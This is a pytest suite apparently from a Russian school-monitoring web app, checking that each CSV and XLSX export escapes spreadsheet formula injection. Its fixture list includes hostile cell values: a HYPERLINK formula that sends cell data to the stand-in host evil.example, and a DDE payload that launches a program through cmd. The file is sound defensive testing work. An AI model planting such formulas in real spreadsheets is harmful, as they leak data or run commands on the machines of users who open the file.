"""Formula injection (issue 17 item 1, ASVS 5.0 1.2.10): no CSV or XLSX the system writes carries a live formula.

One test per export: the submission form (XLSX, with its round trip), the dashboard (XLSX), the import error
report (CSV, a value and an unknown column header), the analysis CLI (CSV); and a guard that no module writes
a spreadsheet other than through app.core.spreadsheets.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from app.core.spreadsheets import FORMULA_STARTS, append_row, csv_writer, safe_cell, unescape_cell

LINK = '=HYPERLINK("http://evil.example/?c="&B3,"Подробнее")'
HOSTILE = [LINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
APP = Path(__file__).resolve().parents[2] / "app"


def _live(value) -> bool:
    return isinstance(value, str) and value[:1] in FORMULA_STARTS and re.fullmatch(r"[+-]?[\d.,]+", value) is None


def _assert_no_formula(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not _live(cell.value), (sheet.title, cell.coordinate, cell.value)


# --- the helper ------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", HOSTILE + ["'=1", "''=1", "'", "-", "обычный текст", ""])
def test_escape_is_reversible_and_neutralises(value):
    escaped = safe_cell(value)
    assert not _live(escaped)
    assert unescape_cell(escaped) == value


@pytest.mark.parametrize("value", ["-5", "+12,5", "3.25", "-1e3", 7, -7.5, None])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value


def test_csv_writer_and_xlsx_appender():
    out = io.StringIO()
    csv_writer(out).writerow(HOSTILE)
    assert not any(_live(field) for field in next(csv.reader(io.StringIO(out.getvalue()))))
    from openpyxl import Workbook

    book = Workbook()
    append_row(book.active, HOSTILE + ["нулевой\x00байт\x01"])
    _assert_no_formula(book)
    assert book.active.cell(1, len(HOSTILE) + 1).value == "нулевойбайт"


def test_no_spreadsheet_is_written_around_the_helper():
    """csv.writer is used, and worksheet rows are appended, only inside app/core/spreadsheets.py: every name
    bound to a worksheet (`x = book.active`, `x = book.create_sheet(...)`) is written through append_row."""
    offenders = []
    sheet_name = re.compile(r"(\w+)\s*=\s*\w+\.(?:active\b|create_sheet\()")
    for path in APP.rglob("*.py"):
        if path.name == "spreadsheets.py":
            continue
        text = path.read_text("utf-8")
        sheets = set(sheet_name.findall(text)) | {"ws", "sheet", "worksheet"}
        writes = re.compile(r"csv\.(writer|DictWriter)\(|\b(" + "|".join(map(re.escape, sheets)) + r")\.append\(")
        for n, line in enumerate(text.splitlines(), start=1):
            if writes.search(line):
                offenders.append(f"{path.relative_to(APP)}:{n}: {line.strip()}")
    assert offenders == []


# --- the submission form (XLSX) and its round trip --------------------------------------------------

def test_submission_xlsx_neutralises_a_comment_and_reads_it_back(client, login, world, sent, db_session, app,
                                                                  tmp_path, monkeypatch):
    from app.monitoring.models import IndicatorValue
    from app.monitoring.values import save_values
    from tests.test_monitoring import submission_of

    monkeypatch.setitem(app.config, "UPLOAD_DIR", str(tmp_path))
    sub_a = submission_of(sent, world["school_a"])
    save_values([{"indicator_code": "I-01", "organisation_code": "SCH-A", "period": sent.period, "value": "7,5",
                  "comment": LINK}], actor=world["director_a"], source="form", submission=sub_a)
    db_session.commit()
    login(world["director_a"])
    response = client.get(f"/monitoring/submissions/{sub_a.id}/xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    _assert_no_formula(book)
    assert book["Сведения"]["E3"].value == "'" + LINK

    # The same file uploaded back: the comment is the one the school typed, not the escaped text.
    response = client.post(f"/monitoring/submissions/{sub_a.id}/upload",
                           data={"file": (io.BytesIO(response.data), "form.xlsx"), "version": sub_a.version},
                           content_type="multipart/form-data")
    assert response.status_code == 302, response.get_data(as_text=True)[:1000]
    db_session.expire_all()
    comments = set(db_session.scalars(select(IndicatorValue.comment).where(
        IndicatorValue.organisation_id == world["school_a"].id)))
    assert LINK in comments and "'" + LINK not in comments


# --- the dashboard (XLSX) -----------------------------------------------------------------------

def test_dashboard_xlsx_neutralises_an_organisation_name(world, anl_cycle, db_session, client, login):
    from app.analysis.dashboard import refresh_dashboard
    from app.orgs.models import Organisation

    db_session.execute(update(Organisation).where(Organisation.id == world["school_a"].id)
                       .values(name=LINK, short_name=None))
    db_session.commit()
    refresh_dashboard(anl_cycle)
    db_session.commit()
    login(world["official"])
    response = client.get(f"/analysis/cycles/{anl_cycle.id}/dashboard.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    _assert_no_formula(book)
    names = [row[2] for row in book.active.iter_rows(min_row=3, values_only=True)]
    assert "'" + LINK in names


# --- the import error report (CSV) -------------------------------------------------------------------

def _report_rows(run):
    from app.imports.services import report_file

    with open(report_file(run), encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


@pytest.fixture
def import_file(db_session, world, app, tmp_path, monkeypatch):
    from app.imports.models import ImportRun
    from app.imports.services import start_import
    from app.jobs.queue import dispatch_ready

    monkeypatch.setitem(app.config, "UPLOAD_DIR", str(tmp_path))

    def run(content: bytes):
        started = start_import("results", filename="r.csv", stream=io.BytesIO(content), actor=world["official"],
                               organisation=world["mun"])
        db_session.commit()
        dispatch_ready()
        db_session.expire_all()
        return db_session.get(ImportRun, started.id)
    return run


def test_import_report_neutralises_values(import_file):
    from tests.test_imports import result_row, results_csv

    run = import_file(results_csv([result_row(1, mark="=1+2"), result_row(2, class_label="@SUM(A1)")]))
    assert run.status == "rejected"
    rows = _report_rows(run)
    assert len(rows) > 1
    assert not any(_live(field) for row in rows for field in row), rows
    assert ["2", "mark", "'=1+2"] == rows[1][:3]


def test_import_report_neutralises_an_unknown_column_header(import_file, app):
    from tests.test_imports import HEADER, result_row, results_csv

    run = import_file(results_csv([list(result_row(1).values()) + ["x"]], header=HEADER + [LINK]))
    assert run.status == "rejected"
    rows = _report_rows(run)
    assert not any(_live(field) for row in rows for field in row), rows
    assert rows[1][1] == "'" + LINK[:60]



def test_import_cli_shows_the_report_unescaped(db_session, world, app, tmp_path, monkeypatch):
    """`flask import results` reads the report back for its summary: it shows the header as it was in the file."""
    from app.imports.cli import import_cli
    from tests.test_imports import HEADER, result_row, results_csv

    monkeypatch.setitem(app.config, "UPLOAD_DIR", str(tmp_path / "uploads"))
    path = tmp_path / "r.csv"
    path.write_bytes(results_csv([list(result_row(1).values()) + ["x"]], header=HEADER + ["@bad"]))
    result = app.test_cli_runner().invoke(import_cli, ["results", str(path), "--as", "official", "--org", "MUN"])
    assert result.exit_code == 1
    assert "«@bad»" in result.output and "'@bad" not in result.output


# --- the analysis CLI (CSV on standard output) -------------------------------------------------------

def test_analysis_cli_csv_neutralises_school_codes(app, db_session, make_org):
    from app.analysis.cli import cli
    from app.analysis.methods.synthetic import create_organisations, generate_region, insert_results
    from app.orgs.models import Organisation

    region_org = make_org("region", code="FREG", name="Область")
    region = generate_region(n_schools=24, n_municipalities=2, years=(2024, 2025), students=20, seed=11)
    ids = create_organisations(region, parent=region_org, code_prefix="F")
    insert_results(db_session, region.results, ids)
    db_session.execute(update(Organisation).where(Organisation.id.in_(list(ids.values())))
                       .values(code="=" + Organisation.code))
    db_session.commit()
    for command in (["objectivity", "--year", "2025", "--all"], ["low-results", "--year", "2025"]):
        result = app.test_cli_runner().invoke(cli, command)
        assert result.exit_code == 0, result.output
        rows = list(csv.reader(io.StringIO(result.stdout)))
        assert len(rows) > 1
        assert not any(_live(field) for row in rows for field in row)
        assert any(row[0].startswith("'=F") for row in rows[1:])


# --- the situational centre's tables (XLSX) -----------------------------------------------------------

def test_situation_tables_neutralise_every_cell():
    """The situational centre's export (app/situation/exports.py, merged from another branch) writes through
    the same appender: title, header and rows."""
    exports = pytest.importorskip("app.situation.exports")
    from types import SimpleNamespace as NS

    data = exports._book(LINK, ["Организация", "@header"], [[LINK, 5, "-5"], ["+1+2", None, -7.5]], [10, 10, 10],
                         org=NS(timezone="Europe/Moscow", parent=None), sheet_name="Результаты")
    book = load_workbook(io.BytesIO(data))
    _assert_no_formula(book)
    values = [cell for row in book.active.iter_rows(values_only=True) for cell in row]
    assert "'" + LINK in values and "'@header" in values and 5 in values and "-5" in values


def test_evidence_table_neutralises_every_cell():
    """The cycle's evidence table (app/evidence/exports.py, merged from another branch): titles and names typed
    by users, on both sheets."""
    from types import SimpleNamespace as NS

    exports = pytest.importorskip("app.evidence.exports")
    # The integrity sheet names a defect's stage by «N. title» when the cycle has it, by its code otherwise.
    stages = [NS(code="goals", position=1, definition=NS(title="=Цели"))]
    cycle = NS(title=LINK, owner=NS(display_name="@owner", timezone="Europe/Moscow", parent=None), stages=stages)
    line = NS(document=NS(title=LINK, addressee=NS(display_name="+школа")), registered=None, stage_position=1,
              stage_title="=этап", type_title="-вид", state="черновик", edition=None, approvals=[], signatures=[])
    defects = [NS(stage="=1", message="@сообщение", object_title="-объект"),
               NS(stage="goals", message=LINK, object_title="+объект")]
    book = load_workbook(io.BytesIO(exports.evidence_xlsx(cycle, [line], defects)))
    _assert_no_formula(book)
    checks = [row for row in book["Проверка целостности"].iter_rows(min_row=2, values_only=True)]
    assert checks == [("'=1", "'@сообщение", "'-объект"), ("1. =Цели", "'" + LINK, "'+объект")]
